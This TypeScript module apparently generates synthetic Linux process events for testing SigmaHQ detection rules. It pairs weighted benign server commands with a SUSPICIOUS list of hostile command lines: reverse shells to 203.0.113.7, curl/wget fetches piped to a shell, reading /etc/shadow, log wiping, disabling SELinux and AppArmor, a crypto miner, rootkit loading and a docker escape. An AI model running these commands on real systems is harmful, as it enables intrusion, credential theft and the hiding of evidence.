/**
 * Process tables for the synthetic Linux events (gen-linux.ts): ordinary server
 * activity with weights, and command lines of the kind the SigmaHQ Linux rules
 * look for.
 */
export interface Proc {
  image: string;
  cmds: string[];
  parents: string[];
  users?: string[];
}

export const SHELLS = ['/usr/bin/bash', '/bin/sh', '/usr/bin/dash'];
export const SERVICES = ['/usr/lib/systemd/systemd', '/usr/sbin/cron', '/usr/bin/containerd-shim-runc-v2'];

// weight, process
export const BENIGN: Array<readonly [number, Proc]> = [
  [
    8,
    {
      image: '/usr/bin/ls',
      cmds: ['ls -la', 'ls /var/log/nginx', 'ls --color=auto -l /srv/app/releases'],
      parents: SHELLS,
    },
  ],
  [
    6,
    {
      image: '/usr/bin/grep',
      cmds: ['grep -i error /var/log/app/app.log', 'grep -rn TODO src/', 'grep -c GET /var/log/nginx/access.log'],
      parents: SHELLS,
    },
  ],
  [
    6,
    {
      image: '/usr/bin/cat',
      cmds: ['cat /proc/meminfo', 'cat /srv/app/config/app.yaml', 'cat /proc/loadavg', 'cat /sys/fs/cgroup/cpu.max'],
      parents: SHELLS,
    },
  ],
  [
    8,
    {
      image: '/usr/bin/python3.11',
      cmds: [
        '/usr/bin/python3 /opt/app/worker.py --queue default',
        'python3 -m pip list --outdated',
        '/usr/bin/python3 /usr/bin/unattended-upgrade --download-only',
        'python3 manage.py migrate --noinput',
      ],
      parents: [...SHELLS, '/usr/lib/systemd/systemd'],
      users: ['app', 'root'],
    },
  ],
  [
    7,
    {
      image: '/usr/bin/node',
      cmds: [
        'node /srv/app/dist/server.js',
        'node /usr/lib/node_modules/npm/bin/npm-cli.js ci',
        'node --max-old-space-size=2048 /srv/app/dist/worker.js',
      ],
      parents: ['/usr/lib/systemd/systemd', '/usr/bin/bash'],
      users: ['app', 'node'],
    },
  ],
  [
    5,
    {
      image: '/usr/bin/git',
      cmds: [
        'git status',
        'git fetch origin --prune',
        'git log --oneline -n 20',
        'git rev-parse HEAD',
        'git pull --ff-only',
      ],
      parents: SHELLS,
      users: ['deploy', 'alice', 'bob'],
    },
  ],
  [
    5,
    {
      image: '/usr/bin/systemctl',
      cmds: [
        'systemctl status nginx',
        'systemctl is-active --quiet app.service',
        'systemctl list-timers',
        'systemctl show -p ActiveState docker',
      ],
      parents: SHELLS,
    },
  ],
  [4, { image: '/usr/bin/ps', cmds: ['ps aux', 'ps -o pid,rss,cmd -p 4312', 'ps -ef --forest'], parents: SHELLS }],
  [
    4,
    {
      image: '/usr/bin/sed',
      cmds: ["sed -n '1,40p' /etc/nginx/nginx.conf", "sed -i 's/^#Port 22/Port 22/' /tmp/sshd_config.new"],
      parents: SHELLS,
    },
  ],
  [
    3,
    {
      image: '/usr/bin/awk',
      cmds: ["awk '{print $1}' /var/log/nginx/access.log", "awk -F: '{print $1}' users.txt"],
      parents: SHELLS,
    },
  ],
  [
    5,
    {
      image: '/usr/bin/tar',
      cmds: ['tar czf /backup/app-2026-11-28.tar.gz /srv/app/data', 'tar xzf release.tar.gz -C /srv/app/releases/42'],
      parents: SHELLS,
      users: ['backup', 'deploy'],
    },
  ],
  [
    4,
    {
      image: '/usr/sbin/logrotate',
      cmds: ['/usr/sbin/logrotate /etc/logrotate.conf'],
      parents: ['/usr/sbin/cron', '/usr/lib/systemd/systemd'],
    },
  ],
  [
    4,
    {
      image: '/usr/bin/find',
      cmds: [
        'find /var/log/app -name *.gz -mtime +14 -delete',
        'find . -name package.json -maxdepth 3',
        'find /tmp -type f -mmin +600',
      ],
      parents: SHELLS,
    },
  ],
  [4, { image: '/usr/bin/date', cmds: ['date +%s', 'date -u +%Y-%m-%dT%H:%M:%SZ'], parents: SHELLS }],
  [3, { image: '/usr/bin/sleep', cmds: ['sleep 5', 'sleep 60', 'sleep 0.5'], parents: SHELLS }],
  [
    3,
    {
      image: '/usr/bin/rsync',
      cmds: ['rsync -az --delete /srv/app/data/ backup01:/srv/backup/app/', 'rsync -a releases/42/ /srv/app/current/'],
      parents: SHELLS,
      users: ['backup', 'deploy'],
    },
  ],
  [
    3,
    {
      image: '/usr/bin/ssh',
      cmds: ['ssh -o BatchMode=yes backup01 true', 'ssh deploy@app02 systemctl restart app'],
      parents: SHELLS,
      users: ['deploy', 'backup'],
    },
  ],
  [
    3,
    {
      image: '/usr/bin/apt-get',
      cmds: ['apt-get -qq update', 'apt-get install -y --no-install-recommends jq'],
      parents: ['/usr/bin/sudo', '/usr/bin/bash'],
    },
  ],
  [
    3,
    {
      image: '/usr/bin/sudo',
      cmds: ['sudo systemctl reload nginx', 'sudo -u app /srv/app/bin/migrate', 'sudo apt-get -qq update'],
      parents: SHELLS,
      users: ['alice', 'bob', 'deploy'],
    },
  ],
  [
    4,
    {
      image: '/usr/bin/bash',
      cmds: [
        '/bin/bash /srv/app/bin/healthcheck.sh',
        '-bash',
        'bash -c "cd /srv/app && ./bin/rotate-keys --dry-run"',
        '/bin/bash /usr/local/bin/backup.sh',
      ],
      parents: [...SERVICES, '/usr/sbin/sshd'],
    },
  ],
  [
    3,
    {
      image: '/usr/bin/curl',
      cmds: [
        'curl -fsS http://127.0.0.1:8080/healthz',
        'curl -s -o /dev/null -w %{http_code} https://api.example.com/status',
      ],
      parents: SHELLS,
      users: ['app', 'monitor'],
    },
  ],
  [
    2,
    {
      image: '/usr/bin/docker',
      cmds: ['docker ps --format {{.Names}}', 'docker logs --tail 100 web', 'docker compose pull'],
      parents: SHELLS,
      users: ['deploy', 'root'],
    },
  ],
  [
    2,
    {
      image: '/usr/bin/journalctl',
      cmds: ['journalctl -u app.service --since -1h --no-pager', 'journalctl --vacuum-time=14d'],
      parents: SHELLS,
    },
  ],
  [2, { image: '/usr/bin/df', cmds: ['df -h /', 'df -i'], parents: SHELLS, users: ['monitor', 'root'] }],
  [2, { image: '/usr/bin/du', cmds: ['du -sh /var/lib/docker', 'du -sh /srv/app/data/*'], parents: SHELLS }],
  [2, { image: '/usr/sbin/nginx', cmds: ['nginx -t', 'nginx -s reload'], parents: SHELLS }],
  [
    2,
    {
      image: '/usr/bin/vim.basic',
      cmds: ['vim /etc/nginx/sites-enabled/app.conf', 'vim README.md'],
      parents: SHELLS,
      users: ['alice', 'bob'],
    },
  ],
  [1, { image: '/usr/bin/uname', cmds: ['uname -r', 'uname -m'], parents: SHELLS }],
  [1, { image: '/usr/bin/id', cmds: ['id -u', 'id -un'], parents: SHELLS }],
  [1, { image: '/usr/bin/hostname', cmds: ['hostname -f', 'hostname'], parents: SHELLS }],
];

export const SUSPICIOUS: Array<[string, string]> = [
  ['/usr/bin/bash', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ['/usr/bin/bash', 'bash -c "curl -s http://203.0.113.7/x.sh | bash"'],
  ['/usr/bin/wget', 'wget -q -O - http://203.0.113.7/m | sh'],
  ['/usr/bin/nc.openbsd', 'nc -e /bin/sh 203.0.113.7 4444'],
  ['/usr/bin/ncat', 'ncat 203.0.113.7 443 -e /bin/bash'],
  ['/usr/bin/chmod', 'chmod +x /tmp/.x'],
  ['/usr/bin/chmod', 'chmod u+s /usr/bin/find'],
  ['/usr/bin/base64', 'base64 -d /tmp/p.b64'],
  [
    '/usr/bin/python3.11',
    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);import pty; pty.spawn("/bin/sh")\'',
  ],
  ['/usr/bin/cat', 'cat /etc/shadow'],
  ['/usr/bin/crontab', 'crontab -r'],
  ['/usr/sbin/useradd', 'useradd -m -s /bin/bash -G sudo svc-backup'],
  ['/usr/sbin/setenforce', 'setenforce 0'],
  ['/usr/bin/systemctl', 'systemctl stop apparmor'],
  ['/usr/sbin/iptables', 'iptables -F'],
  ['/usr/bin/chattr', 'chattr -i /etc/passwd'],
  ['/tmp/.cache/xmrig', '/tmp/.cache/xmrig --donate-level 1 -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ'],
  ['/usr/sbin/insmod', 'insmod /tmp/diamorphine.ko'],
  ['/usr/bin/find', 'find / -perm -4000 -type f'],
  ['/usr/bin/rm', 'rm -rf /var/log/syslog'],
  ['/usr/bin/history', 'history -c'],
  ['/usr/bin/socat', "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"],
  ['/usr/bin/openssl', 'openssl s_client -quiet -connect 203.0.113.7:443'],
  ['/usr/bin/docker', 'docker run --rm --privileged -v /:/mnt alpine chroot /mnt sh'],
  ['/usr/bin/touch', 'touch -t 202001010000 /usr/bin/backdoor'],
  ['/usr/bin/dd', 'dd if=/dev/zero of=/var/log/auth.log bs=1 count=0'],
  ['/usr/bin/truncate', 'truncate -s 0 /var/log/auth.log'],
  ['/usr/bin/xclip', 'xclip -selection clipboard -o'],
  ['/usr/sbin/getcap', 'getcap -r / 2>/dev/null'],
  ['/usr/bin/nohup', 'nohup /dev/shm/.k >/dev/null 2>&1 &'],
];

export const USERS = ['root', 'app', 'deploy', 'www-data', 'alice', 'bob', 'monitor', 'backup'];
export const DIRS = [
  '/',
  '/root',
  '/srv/app',
  '/srv/app/current',
  '/home/alice',
  '/home/bob',
  '/tmp',
  '/var/lib/app',
  '/opt/app',
];
